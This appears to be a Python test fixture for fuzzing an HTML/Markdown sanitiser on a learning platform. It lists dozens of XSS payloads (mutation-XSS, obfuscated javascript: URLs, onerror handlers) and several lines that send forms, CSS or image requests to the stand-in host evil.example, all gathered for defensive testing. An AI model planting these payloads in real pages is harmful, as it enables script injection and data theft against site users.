"""Hostile texts: the collections found in the folder of sample files, and our own additions."""

import json
import re
from pathlib import Path

MUTATIONS = [
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
    ),
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    '<a href="java\tscript:alert(1)">x</a><a href="\x01javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a><a href="&#106avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="\u2028javascript:alert(1)">x</a><a href="\u200bjavascript:alert(1)">x</a>',
    '<a href="//evil.example/">x</a><a href="/\\evil.example">x</a>',
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=https://evil.example/><input name=submit id=csrf_token>",
    "<form><button formaction=javascript:alert(1)>",
    '<p style="background:url(javascript:alert(1))" class="modal" id="csrf_token" name=x>',
    "<div hx-get=/x hx-on:click=alert(1) data-hx-trigger=load>x</div>",
    '<img src="https://evil.example/p.gif" srcset="https://evil.example/q.gif 2x">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp>",
    '<a class="lms-term x" href="lms:lesson/../../x">x</a><img src="lms:img/../x">',
    "<table><td><a href=x><table><script>alert(1)</script>",
    "<style>@import 'https://evil.example/x.css';</style><link rel=stylesheet href=https://evil.example/>",
]

AS_MARKDOWN = [
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#10;script:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](&#x6a;avascript:alert(1))",
    "[a](\\javascript:alert(1))",
    "[a](<java script:alert(1)>)",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    "![a](javascript:alert(1))",
    '![a" onerror="alert(1)](img/x.svg)',
    '![a](img/x.svg "b\\" onerror=alert(1)")',
    '[a](https://e.ro/"onmouseover=alert(1))',
    "[a](https://e.ro '\"onmouseover=\"alert(1)')",
    "::: law <img src=x onerror=alert(1)>\nx\n:::",
    "::: law lms:title/law</p><script>alert(1)</script>\nx\n:::",
    "## <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    '```"><script>alert(1)</script>\nx\n```',
    "```</code><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    '[x](term:a"onclick=alert(1))',
    '[x](lesson:a#"><script>alert(1)</script>)',
    '[x](<file:"><script>alert(1)<x>)',
    '[x](source:S1"><script>)',
    '<a href="lms:lesson/x">`href="lms:lesson/y"`</a>',
]


def collections(folder: Path) -> dict[str, list[str]]:
    """Name of each collection found → its texts; every file of the kinds known is read."""
    hostile = folder / "hostile"
    bleach = sorted((hostile / "bleach").glob("*.test"))
    specs = sorted(hostile.glob("*spec*.txt"))
    found = {
        "bleach": [path.read_text(encoding="utf-8").split("\n--\n")[0] for path in bleach],
        "naughty": [
            text
            for path in sorted(hostile.glob("*.json"))
            for text in json.loads(path.read_text("utf-8"))
        ],
        "commonmark": [source for path in specs for source, _ in examples(path)],
    }
    missing = [name for name, texts in found.items() if not texts]
    assert not missing, f"hostile/ holds nothing of the kinds {missing}"
    return found


def examples(path: Path) -> list[tuple[str, str]]:
    """The examples of a CommonMark specification: Markdown and the HTML it gives there."""
    fence = "`" * 32
    pattern = rf"^{fence} example\n(.*?)^\.\n(.*?)^{fence}$"
    spec = path.read_text(encoding="utf-8")
    found = re.findall(pattern, spec, re.MULTILINE | re.DOTALL)
    return [(source.replace("→", "\t"), html.replace("→", "\t")) for source, html in found]


def placed(text: str) -> list[str]:
    """The text in each place where an author could put it."""
    line = " ".join(text.split())
    return [
        text,
        f"[{line}]({line})",
        f"![{line}](img/{line})",
        f"[x](<{line}>) [y](term:{line}) [z](file:{line})",
        f"::: mistake {line}\n{text}\n:::\n\n::: check {line}",
        f"## {line}\n\n> {line}\n\n- {line}",
        f"| {line} |\n|---|\n| {line} |",
        f"`{line}`\n\n```{line}\n{text}\n```",
    ]
